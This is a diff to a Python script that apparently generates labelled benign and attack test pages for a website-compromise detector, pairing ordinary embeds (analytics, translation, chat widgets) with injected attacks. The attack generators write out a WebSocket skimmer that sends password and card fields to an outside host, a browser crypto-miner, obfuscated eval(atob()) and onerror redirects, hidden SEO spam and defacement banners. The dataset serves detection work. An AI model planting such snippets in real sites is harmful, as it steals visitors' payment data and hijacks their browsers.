@@ -922,6 +922,141 @@ def b_events_list(r, s):
     return {"main": f'<section class="events"><h2>{"رویدادهای پیش رو" if fa_ else "Upcoming events"}</h2><ul>{rows}</ul></section>\n'}, []
 
 
+def b_iran_badges(r, s):
+    i1, code = r.randint(100000, 999999), alnum(r, 20)
+    return {"foot": f"""<div class="badges"><a referrerpolicy='origin' target='_blank' href='https://trustseal.enamad.ir/?id={i1}&Code={code}'><img referrerpolicy='origin' src='https://trustseal.enamad.ir/logo.aspx?id={i1}&Code={code}' alt='' style='cursor:pointer' code='{code}'></a>
+<img referrerpolicy='origin' id='rgvjjzpejzpewlaoapfu' style='cursor:pointer' onclick='window.open("https://logo.samandehi.ir/Verify.aspx?id={r.randint(100000, 999999)}&p=xlaojyoejyoeaodsdshw", "Popup","toolbar=no, scrollbars=no, location=no, statusbar=no, menubar=no, resizable=0, width=450, height=630, top=30")' alt='logo-samandehi' src='https://logo.samandehi.ir/logo.aspx?id={r.randint(100000, 999999)}&p=nbpdyndtyndtshwlujyn' /></div>
+"""}, []
+
+
+def b_siteimprove(r, s):
+    return {"foot": """<script type="text/javascript">
+/*<![CDATA[*/
+(function() {
+var sz = document.createElement('script'); sz.type = 'text/javascript'; sz.async = true;
+sz.src = '//siteimproveanalytics.com/js/siteanalyze_%d.js';
+var s = document.getElementsByTagName('script')[0]; s.parentNode.insertBefore(sz, s);
+})();
+/*]]>*/
+</script>
+""" % r.randint(6000000, 6999999)}, []
+
+
+def b_dap(r, s):
+    return {"head": '<script async type="text/javascript" src="https://dap.digitalgov.gov/Universal-Federated-Analytics-Min.js?agency=%s" id="_fed_an_ua_tag"></script>\n' % r.choice(["DOJ", "GSA", "ED"])},\
+        ["other digitalgov.gov General Services Administration (Digital Analytics Program)"]
+
+
+def b_google_translate(r, s):
+    return {"main": """<div id="google_translate_element"></div>
+<script type="text/javascript">
+function googleTranslateElementInit() {
+  new google.translate.TranslateElement({pageLanguage: 'en', layout: google.translate.TranslateElement.InlineLayout.SIMPLE}, 'google_translate_element');
+}
+</script>
+<script type="text/javascript" src="//translate.google.com/translate_a/element.js?cb=googleTranslateElementInit"></script>
+"""}, []
+
+
+def b_readspeaker(r, s):
+    cid = r.randint(4000, 13000)
+    return {"head": f'<script src="https://cdn-eu.readspeaker.com/script/{cid}/webReader/webReader.js?pids=wr" type="text/javascript" id="rs_req_Init"></script>\n',
+            "main_pre": f'<div id="readspeaker_button1" class="rs_skip rsbtn rs_preserve"><a rel="nofollow" class="rsbtn_play" accesskey="L" title="Listen to this page using ReadSpeaker webReader" href="https://app-eu.readspeaker.com/cgi-bin/rsent?customerid={cid}&amp;lang=en_uk&amp;readid=main&amp;url="><span class="rsbtn_left rsimg rspart"><span class="rsbtn_text"><span>Listen</span></span></span></a></div>\n'}, []
+
+
+def b_reciteme(r, s):
+    key = hexs(r, 40)
+    return {"foot": f"""<script>
+var serviceUrl = "//api.reciteme.com/asset/js?key=";
+var serviceKey = "{key}";
+var options = {{}};
+var autoLoad = false;
+var enableFragment = "#reciteEnable";
+var loaded = [], frag = !1; window.location.hash === enableFragment && (frag = !0);
+function loadScript(c, b) {{ var a = document.createElement("script"); a.type = "text/javascript"; a.readyState ? a.onreadystatechange = function () {{ if ("loaded" == a.readyState || "complete" == a.readyState) a.onreadystatechange = null, void 0 != b && b() }} : void 0 != b && (a.onload = function () {{ b() }}); a.src = c; document.getElementsByTagName("head")[0].appendChild(a) }}
+function _rc(c) {{ c += "="; for (var b = document.cookie.split(";"), a = 0; a < b.length; a++) {{ for (var d = b[a]; " " == d.charAt(0);) d = d.substring(1, d.length); if (0 == d.indexOf(c)) return d.substring(c.length, d.length) }} return null }}
+function loadService(c) {{ for (var b = serviceUrl + serviceKey, a = 0; a < loaded.length; a++) if (loaded[a] == b) return; loaded.push(b); loadScript(serviceUrl + serviceKey, function () {{ "function" === typeof _reciteLoaded && _reciteLoaded(); "function" == typeof c && c(); Recite.load(options); Recite.Event.subscribe("Recite:load", function () {{ Recite.enable() }}) }}) }}
+"true" == _rc("Recite.Persist") && loadService(); if (autoLoad && "false" != _rc("Recite.Persist") || frag) document.addEventListener ? document.addEventListener("DOMContentLoaded", function (c) {{ loadService() }}) : loadService();
+</script>
+<a href="#" id="enableRecite" class="recite-btn" onclick="loadService();return false;">Accessibility tools</a>
+"""}, []
+
+
+def b_fb_pixel(r, s):
+    pid = r.randint(100000000000000, 999999999999999)
+    return {"head": f"""<!-- Meta Pixel Code -->
+<script>
+!function(f,b,e,v,n,t,s)
+{{if(f.fbq)return;n=f.fbq=function(){{n.callMethod?
+n.callMethod.apply(n,arguments):n.queue.push(arguments)}};
+if(!f._fbq)f._fbq=n;n.push=n;n.loaded=!0;n.version='2.0';
+n.queue=[];t=b.createElement(e);t.async=!0;
+t.src=v;s=b.getElementsByTagName(e)[0];
+s.parentNode.insertBefore(t,s)}}(window, document,'script',
+'https://connect.facebook.net/en_US/fbevents.js');
+fbq('init', '{pid}');
+fbq('track', 'PageView');
+</script>
+<noscript><img height="1" width="1" style="display:none"
+src="https://www.facebook.com/tr?id={pid}&ev=PageView&noscript=1"
+/></noscript>
+<!-- End Meta Pixel Code -->
+"""}, []
+
+
+def b_instagram(r, s):
+    sc = alnum(r, 11)
+    return {"main": f"""<blockquote class="instagram-media" data-instgrm-captioned data-instgrm-permalink="https://www.instagram.com/p/{sc}/?utm_source=ig_embed&amp;utm_campaign=loading" data-instgrm-version="14" style=" background:#FFF; border:0; border-radius:3px; margin: 1px; max-width:540px; min-width:326px; padding:0; width:99.375%;"><div style="padding:16px;"><a href="https://www.instagram.com/p/{sc}/?utm_source=ig_embed&amp;utm_campaign=loading" style=" background:#FFFFFF; line-height:0; padding:0 0; text-align:center; text-decoration:none; width:100%;" target="_blank">View this post on Instagram</a></div></blockquote>
+<script async src="//www.instagram.com/embed.js"></script>
+"""}, []
+
+
+def b_fa_kit(r, s):
+    return {"head": '<script src="https://kit.fontawesome.com/%s.js" crossorigin="anonymous"></script>\n' % hexs(r, 10)}, []
+
+
+def b_livechat(r, s):
+    lic = r.randint(10000000, 19999999)
+    return {"foot": f"""<!-- Start of LiveChat (www.livechat.com) code -->
+<script>
+    window.__lc = window.__lc || {{}};
+    window.__lc.license = {lic};
+    window.__lc.integration_name = "manual_channels";
+    window.__lc.product_name = "livechat";
+    ;(function(n,t,c){{function i(n){{return e._h?e._h.apply(null,n):e._q.push(n)}}var e={{_q:[],_h:null,_v:"2.0",on:function(){{i(["on",c.call(arguments)])}},once:function(){{i(["once",c.call(arguments)])}},off:function(){{i(["off",c.call(arguments)])}},get:function(){{if(!e._h)throw new Error("[LiveChatWidget] You can't use getters before load.");return i(["get",c.call(arguments)])}},call:function(){{i(["call",c.call(arguments)])}},init:function(){{var n=t.createElement("script");n.async=!0,n.type="text/javascript",n.src="https://cdn.livechatinc.com/tracking.js",t.head.appendChild(n)}}}};!n.__lc.asyncInit&&e.init(),n.LiveChatWidget=n.LiveChatWidget||e}}(window,document,[].slice))
+</script>
+<noscript><a href="https://www.livechat.com/chat-with/{lic}/" rel="nofollow">Chat with us</a>, powered by <a href="https://www.livechat.com/?welcome" rel="noopener nofollow" target="_blank">LiveChat</a></noscript>
+<!-- End of LiveChat code -->
+"""}, []
+
+
+def a_deface_hero(r, s):
+    fa_ = SITES[s][2] == "fa"
+    line = ("ما فراموش نمی‌کنیم. ما نمی‌بخشیم. منتظر ما باشید." if fa_ else "We are Legion. We do not forgive. We do not forget. Expect us.")
+    return {"main_pre": f'<div style="text-align:center"><img src="https://i.imgur.com/{alnum(r, 7)}.jpeg" width="600" height="400" alt=""><h1 style="color:#c00">{line}</h1></div>\n'}, []
+
+
+def a_miner_worker(r, s):
+    host = r.choice(["wss://ws.pool-relay.top:8443", "wss://%s.minerpool.click" % alnum(r, 5).lower()])
+    js = f"""<script>(function(){{var c=navigator.hardwareConcurrency||2;var src="importScripts('https://{r.choice(['cdn.wasm-lib.top', 'js.calc-worker.icu'])}/cn.js');self.onmessage=function(e){{start(e.data)}};";for(var i=0;i<c-1;i++){{var w=new Worker(URL.createObjectURL(new Blob([src],{{type:'text/javascript'}})));w.postMessage({{pool:'{host}',user:'4{alnum(r, 94)}',throttle:0.1}});}}}})();</script>"""
+    return {"foot": js + "\n"}, []
+
+
+def a_skimmer_ws(r, s):
+    js = f"""<script>var _s=new WebSocket('wss://{r.choice(['api-cdnstats.com', 'sockets.jslib-cdn.org'])}/ws');document.addEventListener('change',function(e){{var t=e.target;if(t&&t.name&&/pass|card|cvv|pan|pin/i.test(t.name)){{_s.readyState==1&&_s.send(JSON.stringify({{h:location.host,n:t.name,v:t.value}}));}}}},true);</script>"""
+    return {"foot": js + "\n"}, []
+
+
+def a_redirect_meta_body(r, s):
+    u = r.choice(REDIR) % alnum(r, 5).lower()
+    return {"main": f'<META HTTP-EQUIV="Refresh" CONTENT="{r.randint(2, 8)};URL={u}">\n'}, []
+
+
+def a_seo_clip(r, s):
+    L = spam_links(r, SITES[s][2] == "fa")
+    return {"foot": f'<div aria-hidden="true" style="position:absolute!important;clip:rect(1px,1px,1px,1px);width:1px;height:1px;overflow:hidden">{L}</div>\n'}, []
+
+
 BENIGN = [
     # (class, function, sites)
     ("noise_only", b_noise, ALL),
@@ -975,6 +1110,16 @@ BENIGN = [
     ("announcement_modal", b_modal, ["tax_sitefinity_bi", "police_umbraco_en", "museum_next_bi"]),
     ("english_notice_on_persian_page", b_english_block_on_fa, ["hospital_rayan_fa", "governor_sadaf_fa"]),
     ("own_keepalive_iframe", b_iframe_hidden_own, ["court_kentico_en", "customs_dnn_en"]),
+    ("trust_badges_enamad_samandehi", b_iran_badges, ["hospital_rayan_fa", "tax_sitefinity_bi", "governor_sadaf_fa"]),
+    ("analytics_siteimprove", b_siteimprove, ["police_umbraco_en", "court_kentico_en", "customs_dnn_en"]),
+    ("analytics_dap_digitalgov", b_dap, ["court_kentico_en", "school_hugo_en"]),
+    ("translate_google", b_google_translate, ["school_hugo_en", "council_frontpage_en", "customs_dnn_en"]),
+    ("a11y_readspeaker", b_readspeaker, ["police_umbraco_en", "museum_next_bi"]),
+    ("a11y_reciteme", b_reciteme, ["police_umbraco_en", "council_frontpage_en"]),
+    ("analytics_meta_pixel", b_fb_pixel, ["museum_next_bi", "school_hugo_en"]),
+    ("social_instagram_embed", b_instagram, ["museum_next_bi", "police_umbraco_en"]),
+    ("fonts_fontawesome_kit", b_fa_kit, ["court_kentico_en", "research_nuxt_fa"]),
+    ("chat_livechat", b_livechat, ["customs_dnn_en", "museum_next_bi"]),
 ]
 
 
@@ -1280,6 +1425,63 @@ def a_redirect(kind):
     return f
 
 
+def a_script_usercontent(r, s):
+    u = r.choice(["https://cdn.jsdelivr.net/gh/%s/%s@main/dist/app.min.js" % (alnum(r, 8).lower(), r.choice(["jq-plugins", "sitekit", "utils"])),
+                  "https://rawcdn.githack.com/%s/assets/%s/loader.js" % (alnum(r, 7).lower(), hexs(r, 40)),
+                  "https://unpkg.com/%s-%s@1.0.%d/index.js" % (r.choice(["jquery", "react", "lodash"]), alnum(r, 5).lower(), r.randint(0, 9)),
+                  "https://cdn.statically.io/gh/%s/cdn/main/m.js" % alnum(r, 9).lower()])
+    return {r.choice(["head", "foot"]): '<script src="%s"></script>\n' % u}, []
+
+
+def a_script_before_doctype(r, s):
+    host = r.choice(["trackstatisticsss.com", "cdn.scriptsplatform.com", "js.donatelloflowfirstly.ga", "lobbydesires.com"])
+    return {"prepend": "<script type='text/javascript' src='https://%s/%s.js?v=%d'></script>" % (host, alnum(r, 4).lower(), r.randint(1, 99))}, []
+
+
+def a_redirect_onerror(r, s):
+    u = r.choice(REDIR) % alnum(r, 5).lower()
+    return {"main": '<img src="/x%d.gif" width="1" height="1" style="display:none" onerror="window.location.href=\'%s\'">\n' % (r.randint(1, 99), u)}, []
+
+
+def a_redirect_whole_page(r, s):
+    u = r.choice(REDIR) % alnum(r, 5).lower()
+    return {"replace": '<!DOCTYPE html><html><head><meta charset="utf-8"><title>Loading...</title><script>var d=new Date();if(d){location.replace("%s");}</script></head><body><p>Please wait...</p></body></html>\n' % u}, []
+
+
+def a_redirect_eval_atob(r, s):
+    import base64
+    u = r.choice(REDIR) % alnum(r, 5).lower()
+    code = "if(document.cookie.indexOf('wp_v=')<0){document.cookie='wp_v=1;path=/';window.location.replace('%s');}" % u
+    enc = base64.b64encode(code.encode()).decode()
+    return {r.choice(["head", "foot"]): "<script>eval(atob('%s'));</script>\n" % enc}, []
+
+
+def a_deface_partial_fa_on_en(r, s):
+    h = r.choice(HANDLES)
+    return {"main_pre": '<div dir="rtl" style="background:#000;color:#0f0;padding:20px;text-align:center"><h2>پیام به مدیر سایت</h2><p>امنیت سایت شما در حد صفر است. ما وارد شدیم و رفتیم. آیدی ما در تلگرام: @%s</p></div>\n' % h.lower()}, []
+
+
+def a_seo_title_meta_fa(r, s):
+    kw = r.sample(SPAM_FA, 3)
+    return {"title": " | ".join(kw), "head": '<meta name="description" content="%s">\n<meta name="keywords" content="%s">\n' % ("، ".join(kw), ",".join(SPAM_FA))}, []
+
+
+def council_new(r, i, m):
+    n = noise(r, i)
+    items = news_items(NEWS_EN, i + 7, m.get("news", ()))
+    news = "".join('<li><a href="/news/%d/">%s</a> <time>%s</time></li>' % (90 + k + i, t, n["gdate"]) for k, t in enumerate(items))
+    return f"""<!doctype html>
+<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
+<title>Town of Millbrook, Vermont</title><link rel="stylesheet" href="/assets/css/town.css?v=2"></head>
+<body><header class="bar"><a href="/" class="brand">Town of Millbrook</a><nav><a href="/government/">Government</a><a href="/services/">Services</a><a href="/minutes/">Agendas &amp; Minutes</a><a href="/contact/">Contact</a></nav></header>
+<main><section class="hero"><h1>Welcome to Millbrook</h1><p>Town Hall is open Monday&ndash;Friday, 8:00&ndash;4:30. Today is {n['gdate']}.</p></section>
+<section><h2>Town News</h2><ul class="news">{news}</ul></section>
+<section><h2>Transfer Station</h2><p>Wednesday and Saturday 8&ndash;3. Dog licenses are due by January 31.</p></section></main>
+<footer><p>Town of Millbrook &middot; 1 Common Street &middot; Millbrook, VT 05999</p></footer>
+<script src="/assets/js/town.js?v=2" defer></script></body></html>
+"""
+
+
 ATTACK = [
     ("deface_full_en", a_deface_full("en", True), ["court_kentico_en", "school_hugo_en", "police_umbraco_en"]),
     ("deface_full_en_nosig", a_deface_full("en", False), ["customs_dnn_en", "council_frontpage_en"]),
@@ -1344,6 +1546,18 @@ ATTACK = [
     ("redirect_mobile", a_redirect("mobile"), ["tax_sitefinity_bi", "museum_next_bi"]),
     ("redirect_obfuscated", a_redirect("obfuscated"), ["governor_sadaf_fa", "school_hugo_en", "customs_dnn_en"]),
     ("redirect_popunder", a_redirect("window_open"), ["council_frontpage_en", "research_nuxt_fa"]),
+    ("script_usercontent_cdn", a_script_usercontent, ["court_kentico_en", "governor_sadaf_fa", "school_hugo_en", "museum_next_bi"]),
+    ("script_before_doctype", a_script_before_doctype, ["hospital_rayan_fa", "police_umbraco_en", "council_frontpage_en"]),
+    ("redirect_img_onerror", a_redirect_onerror, ["tax_sitefinity_bi", "customs_dnn_en"]),
+    ("redirect_whole_page", a_redirect_whole_page, ["school_hugo_en", "governor_sadaf_fa"]),
+    ("redirect_eval_atob", a_redirect_eval_atob, ["court_kentico_en", "research_nuxt_fa", "hospital_rayan_fa"]),
+    ("deface_partial_persian_on_english", a_deface_partial_fa_on_en, ["customs_dnn_en", "police_umbraco_en"]),
+    ("seo_spam_gambling_fa_title_meta", a_seo_title_meta_fa, ["governor_sadaf_fa", "research_nuxt_fa"]),
+    ("deface_partial_hero_replaced", a_deface_hero, ["governor_sadaf_fa", "school_hugo_en", "customs_dnn_en"]),
+    ("script_miner_worker", a_miner_worker, ["research_nuxt_fa", "court_kentico_en"]),
+    ("script_skimmer_websocket", a_skimmer_ws, ["tax_sitefinity_bi", "hospital_rayan_fa"]),
+    ("redirect_meta_in_body", a_redirect_meta_body, ["police_umbraco_en", "hospital_rayan_fa"]),
+    ("seo_spam_clip", a_seo_clip, ["court_kentico_en", "governor_sadaf_fa"]),
 ]
 
 
@@ -1379,11 +1593,20 @@ def main():
                 if "replace" in mods:
                     page = mods["replace"]
                 else:
-                    page = render(r, 4 + r.randint(0, 2), mods)
+                    page = mods.get("prepend", "") + render(r, 4 + r.randint(0, 2), mods)
                 write(os.path.join(d, "new.html"), page)
                 lines = ["%s %s" % (kind, cls), "site %s" % s, "url %s" % url] + ["own %s" % o for o in own] + extra
                 write(os.path.join(d, "expect"), "\n".join(lines) + "\n")
                 counts[(kind, cls)] = counts.get((kind, cls), 0) + 1
+    name = "redesign_accepted__council_frontpage_en"
+    d = os.path.join(HERE, "benign", name)
+    os.makedirs(d)
+    for i in (1, 2, 3):
+        write(os.path.join(d, "base%d.html" % i), council_new(random.Random("%d:%s:new:%d" % (SEED, name, i)), i, {}))
+        write(os.path.join(d, "old%d.html" % i), council(random.Random("%d:%s:old:%d" % (SEED, name, i)), i, {}))
+    write(os.path.join(d, "new.html"), council_new(random.Random("%d:%s:new:4" % (SEED, name)), 4, {}))
+    write(os.path.join(d, "expect"), "benign redesign_accepted\nurl %s\n" % SITES["council_frontpage_en"][1])
+    counts[("benign", "redesign_accepted")] = 1
     for kind in ("benign", "attack"):
         tot = 0
         for (k, c), n in sorted(counts.items()):
